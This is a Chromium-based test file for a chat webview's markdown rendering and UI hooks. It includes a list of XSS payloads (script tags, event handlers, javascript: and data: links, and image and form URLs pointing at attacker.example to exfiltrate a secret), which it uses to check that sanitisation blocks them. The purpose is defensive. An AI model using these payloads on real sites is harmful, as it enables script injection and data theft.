// The chat webview in real Chromium: untrusted markdown streamed in must come out sanitised, the DOM hooks the e2e
// tests rely on must be there, and incremental rendering must produce the same content as a one-shot render.
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { chromiumAvailable, openChatPage, CHROMIUM, type ChatPage } from './chatWebviewPage';

const skip = chromiumAvailable() ? false : `${CHROMIUM} is missing (apt-get install chromium); the webview render tests need it`;

const badge = {
  model: 'sim/echo',
  requested: 'sim/fail?status=503',
  promptTokens: 3,
  completionTokens: 7,
  estimated: false,
  costUsd: 0.0004,
  fallbackNote: 'answered by sim/echo after sim/fail?status=503 failed (503)',
};

const XSS = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '[click me](javascript:window.__pwned=3)',
  '[CLICK](JaVaScRiPt:window.__pwned=3)',
  '[entity](&#106;avascript:window.__pwned=3)',
  '[data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD04PC9zY3JpcHQ+)',
  '[vb](vbscript:msgbox(1))',
  '![pixel](https://attacker.example/collect?secret=1)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '<a href="javascript:window.__pwned=4">raw anchor</a>',
  '<svg onload="window.__pwned=5"><circle/></svg>',
  '<iframe src="javascript:window.__pwned=6"></iframe>',
  '<details open ontoggle="window.__pwned=7">x</details>',
  '<style>body { display: none }</style>',
  '<<script>script>window.__pwned=9<</script>/script>',
  '<javascript:window.__pwned=10>',
  '```html\n<script>window.__pwned = 11</script>\n<img src=x onerror=window.__pwned=12>\n```',
  '```\n</code></pre><script>window.__pwned=13</script>\n```',
  '`<img src=x onerror=window.__pwned=14>`',
  '<form action="https://attacker.example"><input name=q></form>',
  '[ok link](https://example.com/docs) and <https://example.com/auto>',
].join('\n\n');

/** Splits text into chunks of `size` characters so tags and links cross chunk boundaries. */
const chunks = (text: string, size: number): string[] => Array.from({ length: Math.ceil(text.length / size) }, (_, i) => text.slice(i * size, (i + 1) * size));

/** Streams `text` in chunks of `size` characters inside the page, letting a frame render after every few chunks. */
async function streamAnswer(p: ChatPage, id: string, text: string, size: number): Promise<void> {
  await p.send({ type: 'start', id, prompt: `question ${id}`, model: 'sim/echo' });
  await p.page.evaluate(
    async ({ id, parts }) => {
      for (let i = 0; i < parts.length; i++) {
        window.dispatchEvent(new MessageEvent('message', { data: { type: 'delta', id, text: parts[i] } }));
        if (i % 5 === 4) await new Promise(requestAnimationFrame);
      }
    },
    { id, parts: chunks(text, size) },
  );
  await p.send({ type: 'done', id, badge });
}

describe('chat webview in Chromium', { skip }, () => {
  let p: ChatPage;
  const dialogs: string[] = [];
  before(async () => {
    p = await openChatPage();
    p.page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
  });
  after(async () => {
    await p?.close();
  });

  test('an XSS payload streamed in leaves no script, handler, or unsafe link, and nothing runs', async () => {
    await streamAnswer(p, 'xss', XSS, 3);
    const report = await p.page.evaluate(() => {
      const body = document.querySelector('[data-testid=answer][data-state=done] [data-testid=answer-body]');
      if (!body) return undefined;
      const all = [...body.querySelectorAll('*')];
      return {
        pwned: (window as unknown as { __pwned?: unknown }).__pwned,
        dangerousTags: all.filter((e) => /^(script|iframe|object|embed|style|img|svg|form|input|details|link|meta)$/i.test(e.tagName)).map((e) => e.tagName),
        handlerAttrs: all.flatMap((e) => [...e.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${e.tagName}.${a.name}`)),
        styleAttrs: all.filter((e) => e.hasAttribute('style')).length,
        hrefs: [...body.querySelectorAll('[href]')].map((e) => e.getAttribute('href') ?? ''),
        srcs: all.filter((e) => e.hasAttribute('src')).length,
        text: body.textContent ?? '',
      };
    });
    assert.ok(report, 'the answer reached the done state');
    assert.equal(report.pwned, undefined);
    assert.deepEqual(report.dangerousTags, []);
    assert.deepEqual(report.handlerAttrs, []);
    assert.equal(report.styleAttrs, 0);
    assert.equal(report.srcs, 0);
    for (const h of report.hrefs) assert.match(h, /^(https?:|mailto:)/i, `unsafe href survived: ${h}`);
    assert.ok(report.hrefs.includes('https://example.com/docs'), 'a safe link is kept');
    assert.ok(report.text.includes('<script>window.__pwned = 11</script>'), 'code shows the payload as text');
    assert.ok(report.text.includes('[image: pixel]'), 'an image becomes a link instead of loading');
    assert.deepEqual(dialogs, []);
    assert.deepEqual(await p.violations(), [], 'nothing even tried to load against the CSP');
  });

  test('clicking a link asks the host to open it instead of navigating', async () => {
    await p.page.click('[data-testid=answer-body] a[href="https://example.com/docs"]');
    const posted = await p.posted();
    assert.deepEqual(posted.at(-1), { type: 'openLink', href: 'https://example.com/docs' });
    assert.match(p.page.url(), /^http:\/\/127\.0\.0\.1:\d+\/$/);
  });

  test('incremental rendering produces the same content as rendering the whole answer at once', async () => {
    await p.send({ type: 'state', turns: [], models: [], currentModel: 'sim/echo' });
    const parts: string[] = [];
    for (let i = 0; i < 12; i++) {
      parts.push(`## Section ${i}\n\nSome *text* with \`code\` and a [link](https://example.com/${i}).\nSecond line of the paragraph.`);
      parts.push(`1. first\n2. second\n\n3. third after a blank line\n   continued`);
      parts.push('```ts\nfunction f' + i + '(x: number) {\n\n  return x * 2; // a blank line above is inside the fence\n}\n```');
      parts.push('> a quote\n> on two lines\n\n- item\n\n      indented code under a loose list');
    }
    const text = parts.join('\n\n');
    await streamAnswer(p, 'inc', text, 7);
    await p.send({ type: 'start', id: 'whole', prompt: 'q', model: 'sim/echo' }, { type: 'delta', id: 'whole', text }, { type: 'done', id: 'whole', badge });
    const shape = (id: string) =>
      p.page.evaluate((turnId) => {
        const body = document.querySelector(`.turn[data-id="${turnId}"] [data-testid=answer-body]`)!;
        const count = (sel: string) => body.querySelectorAll(sel).length;
        return {
          text: (body.textContent ?? '').replace(/\s+/g, ' '),
          pre: count('pre'),
          h2: count('h2'),
          li: count('li'),
          a: count('a'),
          blockquote: count('blockquote'),
          highlighted: count('.hljs-keyword'),
          frozenBlocks: count('.md-block'),
        };
      }, id);
    const inc = await shape('inc');
    const whole = await shape('whole');
    assert.equal(inc.pre, 24, '12 fenced blocks and 12 indented code blocks');
    assert.equal(inc.h2, 12);
    assert.ok(inc.frozenBlocks > 12, `blocks were frozen while streaming (${inc.frozenBlocks})`);
    assert.equal(whole.frozenBlocks, 1);
    assert.ok(inc.highlighted > 0, 'completed code blocks are highlighted');
    assert.deepEqual({ ...inc, frozenBlocks: 0 }, { ...whole, frozenBlocks: 0 });
  });

  test('a long finished answer is readable in full through innerText (what the e2e tests read)', async () => {
    await p.send({ type: 'state', turns: [], models: [], currentModel: 'sim/echo' });
    const paras = Array.from({ length: 400 }, (_, i) => `Paragraph ${i} with enough words to wrap over a couple of lines in a narrow view.`);
    const text = ['FIRST-LINE-MARKER', ...paras, '```ts\nconst last = true;\n```', 'LAST-LINE-MARKER'].join('\n\n');
    await streamAnswer(p, 'long', text, 12);
    const seen = await p.page.evaluate(() => {
      const t = document.body.innerText;
      return { first: t.includes('FIRST-LINE-MARKER'), last: t.includes('LAST-LINE-MARKER'), pages: document.querySelectorAll('.md-page').length };
    });
    assert.ok(seen.pages > 2, `the answer was split into pages (${seen.pages})`);
    assert.deepEqual({ first: seen.first, last: seen.last }, { first: true, last: true });
  });

  test('DOM hooks: answer states, badge with fallback, retry, stop and continue', async () => {
    await p.send({
      type: 'state',
      turns: [],
      models: [
        { id: 'sim/echo', provider: 'sim' },
        { id: 'sim/lorem', provider: 'sim' },
      ],
      currentModel: 'sim/echo',
    });
    await p.send({ type: 'start', id: 's1', prompt: 'stream please', model: 'sim/lorem' }, { type: 'delta', id: 's1', text: 'Lorem ipsum ' });
    assert.equal(await p.page.getAttribute('[data-testid=answer]', 'data-state'), 'streaming');
    assert.equal(await p.page.isVisible('[data-testid=stop]'), true);
    await p.page.click('[data-testid=stop]');
    assert.deepEqual((await p.posted()).at(-1), { type: 'stop', id: 's1' });
    await p.send({ type: 'stopped', id: 's1' });
    assert.equal(await p.page.getAttribute('[data-testid=answer]', 'data-state'), 'stopped');
    assert.equal((await p.page.textContent('[data-testid=answer-body]'))?.trim(), 'Lorem ipsum');
    assert.equal(await p.page.isVisible('[data-testid=stop]'), false);

    await p.send(
      { type: 'start', id: 'f1', prompt: 'fallback', title: 'Explain foo.ts:1-3', model: 'sim/fail?status=503' },
      { type: 'delta', id: 'f1', text: 'echo' },
      { type: 'done', id: 'f1', badge },
    );
    const last = p.page.locator('[data-testid=answer]').last();
    assert.equal(await last.getAttribute('data-state'), 'done');
    assert.match((await last.locator('[data-testid=badge]').textContent()) ?? '', /answered by sim\/echo after sim\/fail\?status=503 failed \(503\)/);
    assert.equal(await p.page.locator('[data-testid=user-message]').last().textContent(), 'Explain foo.ts:1-3');
    await last.locator('[data-testid=retry]').click();
    assert.deepEqual((await p.posted()).at(-1), { type: 'retry', id: 'f1' });

    await p.send(
      { type: 'start', id: 'b1', prompt: 'break', model: 'sim/reset?after=2' },
      { type: 'delta', id: 'b1', text: 'partial' },
      { type: 'error', id: 'b1', error: { message: 'sim/reset?after=2 stopped after 7 characters', partial: true, continueWith: 'sim/echo' } },
    );
    const broken = p.page.locator('[data-testid=answer]').last();
    assert.equal(await broken.getAttribute('data-state'), 'error');
    assert.equal((await broken.locator('[data-testid=answer-body]').textContent())?.trim(), 'partial');
    assert.equal(await broken.locator('[data-testid=continue]').textContent(), 'Continue with sim/echo');
    await broken.locator('[data-testid=continue]').click();
    assert.deepEqual((await p.posted()).at(-1), { type: 'continue', id: 'b1' });
  });

  test('keyboard: Enter sends, Shift+Enter adds a line; the picker and New Chat post their messages', async () => {
    await p.page.click('[data-testid=prompt]');
    await p.page.keyboard.type('line one');
    await p.page.keyboard.press('Shift+Enter');
    await p.page.keyboard.type('line two');
    await p.page.keyboard.press('Enter');
    // Typing also posts a 'draft' (for the token meter) 300 ms after the last key, which may land after these.
    const last = async (type: string) => (await p.posted()).filter((m) => (m as { type?: string }).type === type).at(-1);
    assert.deepEqual(await last('ask'), { type: 'ask', prompt: 'line one\nline two' });
    assert.equal(await p.page.inputValue('[data-testid=prompt]'), '');
    await p.page.selectOption('[data-testid=model-picker]', 'sim/lorem');
    assert.deepEqual(await last('setModel'), { type: 'setModel', model: 'sim/lorem' });
    await p.page.click('[data-testid=new-chat]');
    assert.deepEqual(await last('newChat'), { type: 'newChat' });
    for (const sel of ['prompt', 'send', 'stop', 'model-picker', 'new-chat']) {
      assert.ok(await p.page.getAttribute(`[data-testid=${sel}]`, 'aria-label'), `${sel} has an aria-label`);
    }
  });

  test("smart-select's reason shows in a hover on the badge; the dropdown names models by id with the friendly name on hover", async () => {
    await p.send({
      type: 'state',
      turns: [],
      models: [
        { id: 'smart-select', provider: '', label: 'smart-select', smartSelectMode: 'local' },
        { id: 'smart-select', provider: '', label: 'Select Auto', smartSelectMode: 'gateway', current: true },
        { id: 'sim/echo', provider: 'sim', label: 'sim/echo', detail: 'Simulator: echo' },
      ],
      currentModel: 'smart-select',
    });
    assert.equal(await p.page.inputValue('[data-testid=model-picker]'), 'smart-select#gateway', 'the entry in use is the one marked current');
    assert.equal(await p.page.getAttribute('[data-testid=model-picker] option[value="sim/echo"]', 'title'), 'Simulator: echo');
    await p.page.selectOption('[data-testid=model-picker]', 'smart-select#local');
    assert.deepEqual((await p.posted()).at(-1), { type: 'setModel', model: 'smart-select', smartSelectMode: 'local' });
    await p.send(
      { type: 'start', id: 'why', prompt: 'prove it', model: 'smart-select' },
      { type: 'delta', id: 'why', text: 'QED' },
      { type: 'done', id: 'why', badge: { ...badge, selection: 'smart-select → o3 (reasoning)', selectionReason: 'asks for a proof' } },
    );
    const selection = p.page.locator('[data-testid=answer]').last().locator('[data-testid=badge-selection]');
    assert.equal(await selection.getAttribute('title'), 'Why: asks for a proof');
  });

  test('a malformed host message is rejected and reported, and the view keeps working', async () => {
    const before = (await p.posted()).length;
    await p.send({ type: 'delta', id: 42 }, { type: 'evil', html: '<img src=x onerror=alert(1)>' }, null);
    const posted = (await p.posted()).slice(before) as { type: string; detail?: string }[];
    assert.deepEqual(
      posted.map((m) => m.type),
      ['protocolError', 'protocolError', 'protocolError'],
    );
    assert.match(posted[0].detail ?? '', /rejected host→webview message "delta"/);
    await p.send({ type: 'state', turns: [{ id: 'ok', prompt: 'still alive?', model: 'm', text: 'yes', state: 'done' }], models: [], currentModel: 'm' });
    assert.equal((await p.page.textContent('[data-testid=answer-body]'))?.trim(), 'yes');
  });
});

describe('chat webview restores from getState before the host answers', { skip }, () => {
  test('turns saved with setState are shown immediately on load', async () => {
    const p = await openChatPage({
      initialState: {
        turns: [{ id: 'r1', prompt: 'saved question', model: 'sim/echo', text: '**saved** answer', state: 'done' }],
        models: [],
        currentModel: 'sim/echo',
        draft: 'half-typed',
      },
    });
    try {
      assert.equal(await p.page.textContent('[data-testid=user-message]'), 'saved question');
      assert.equal(await p.page.textContent('[data-testid=answer-body] strong'), 'saved');
      assert.equal(await p.page.inputValue('[data-testid=prompt]'), 'half-typed');
    } finally {
      await p.close();
    }
  });
});
